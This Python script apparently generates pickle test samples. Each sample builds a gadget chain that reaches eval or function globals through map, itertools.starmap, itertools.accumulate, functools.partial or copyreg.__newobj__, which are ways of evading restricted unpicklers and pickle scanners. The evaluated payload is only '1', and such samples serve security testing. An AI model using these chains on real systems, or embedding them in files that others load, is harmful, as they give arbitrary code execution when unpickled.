# A class that calls what it is given does so by its __new__, too, and by copyreg.
from pickle_asm import *


def name(module, qualified):
    return raw(stack_global(module, qualified))


def made(module, qualified, *values):
    return raw(call4(module, qualified, *values))


def constructed(kind, *values):
    constructor = made("builtins", "getattr", kind, "__new__")
    return raw(constructor.code + args(kind, *values) + REDUCE)


def listed(*values):
    return raw(EMPTY_LIST + MARK + args(*values)[1:-1] + APPENDS)


def program(file, value):
    save(file, framed(value.code + STOP))


MAP, LIST, GETATTR, ITEM = (name("builtins", "map"), name("builtins", "list"), name("builtins", "getattr"),
                            name("_operator", "getitem"))
SPACES = constructed(MAP, GETATTR, listed(name("json", "loads")), listed("__globals__"))
BUILTINS = constructed(MAP, ITEM, SPACES, listed("__builtins__"))
EVALS = constructed(MAP, ITEM, BUILTINS, listed("eval"))
LAZY = constructed(MAP, LIST, constructed(MAP, MAP, EVALS, listed(listed("1"))))
PAIR = raw(args(name("json", "loads"), "__globals__"))

program("map.pkl", made("builtins", "list", LAZY))
program("starmap.pkl", made("builtins", "list", constructed(name("itertools", "starmap"), GETATTR, listed(PAIR))))
program("accumulate.pkl", made("builtins", "list", constructed(
    name("itertools", "accumulate"), listed(name("json", "loads"), "__globals__"), GETATTR)))
program("partial.pkl", raw(constructed(name("functools", "partial"), GETATTR, name("json", "loads"),
                                       "__globals__").code + EMPTY_TUPLE + REDUCE))
program("partial_by_copyreg.pkl", made("copyreg", "__newobj__", name("functools", "partial"), GETATTR, None, "__class__"))
